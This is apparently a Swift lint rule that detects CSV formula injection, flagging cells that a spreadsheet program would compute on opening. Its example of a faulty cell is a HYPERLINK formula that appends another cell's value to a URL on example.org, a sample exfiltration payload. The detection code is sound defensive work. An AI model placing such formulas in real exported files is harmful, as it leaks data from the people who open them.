import CellModel
import Diagnostics
import SheetText
import Workbooks

/// A text that a spreadsheet program computes when it opens it in a CSV file.
package enum CSVInjection: LintRule {
  package static let page = FindingPage(
    code: "csv-injection", .warning, "a text would be a formula for a program that opens it as CSV",
    why: """
      Whoever opens such a file in a spreadsheet program runs what stands there, which may fetch a page or start a program. Told of \
      texts of tables that begin with = and go on as a formula, with +, - or @ and call or refer to something, or with a tab or a line \
      end in front of that; a telephone number, a list mark or a @name is not told. CSV files that are checked are looked at as well. \
      Of other cells, in which somebody may show how a formula is written, those that reach out of the file are told.
      """,
    fix: "Write such files with --guard-formulas, which puts an apostrophe in front, or correct the text.",
    example: FindingExample(
      wrong: """
        table people {
          | name | note |
          | Ada  | first |
          | Bob  | "=HYPERLINK(""http://example.org/?x="" & A1, ""more"")" |
        }
        """,
      right: """
        table people {
          | name | note |
          | Ada  | first |
          | Bob  | see http://example.org |
        }
        """))

  package static func check(_ sheet: LintedSheet, _ report: inout LintReport) {
    for index in sheet.statements(with: [.unusualConstant, .input, .table]) {
      switch sheet.document.statements[index].kind {
      case .table(let table):
        for cell in table.rows.flatMap(\.cells) { tell(cell.value.text, cell.span, &report) }
        if let source = table.source { checkFile(source, table, sheet, &report) }
      case .cell(let cell):
        tellIfReachingOut(cell.formula.constant?.text, cell.formula.span, &report)
      case .input(let input):
        if let initial = input.initial { tellIfReachingOut(initial.constant?.text, initial.span, &report) }
      default: break
      }
    }
  }

  private static func tell(_ text: String?, _ span: SourceSpan, _ report: inout LintReport) {
    guard let text, FormulaGuard.runs(text) else { return }
    report.add("a program that opens this as CSV computes it", at: span, label: label(text))
  }

  private static func tellIfReachingOut(_ text: String?, _ span: SourceSpan, _ report: inout LintReport) {
    guard let text, FormulaGuard.reachesOut(text) else { return }
    tell(text, span, &report)
  }

  /// What is said of a field of a CSV file.
  package static func finding(_ text: String, at offset: Int) -> Diagnostic {
    Diagnostic(
      page.severity, code: page.code, "a program that opens this file computes a field of it",
      at: SourceSpan(offset, offset), label: label(text))
  }

  private static func label(_ text: String) -> String {
    switch text.unicodeScalars.first {
    case "\t": "it begins with a tab"
    case "\r", "\n": "it begins with a line end"
    default: "it begins with \(text.prefix(1)) and goes on as a formula"
    }
  }

  /// Tells of each column of a file once, with the first such text in it.
  private static func checkFile(
    _ source: WrittenText, _ table: TableDefinition, _ sheet: LintedSheet, _ report: inout LintReport
  ) {
    let computed = Set(table.columns.map(\.name.key))
    let read = sheet.live.tables.table(named: table.name.key)?.columns ?? []
    for column in read where !computed.contains(column.lowercased()) {
      guard case .success(let cell) = sheet.live.cell("\(table.name.text)[\(column)]") else { continue }
      let values = sheet.live.value(of: cell).array?.elements ?? []
      guard let row = values.firstIndex(where: { $0.text.map(FormulaGuard.runs) ?? false }) else { continue }
      report.add(
        "a program that opens row \(row + 1) of \(column) as CSV computes it", at: source.span,
        label: label(values[row].text ?? ""))
    }
  }
}
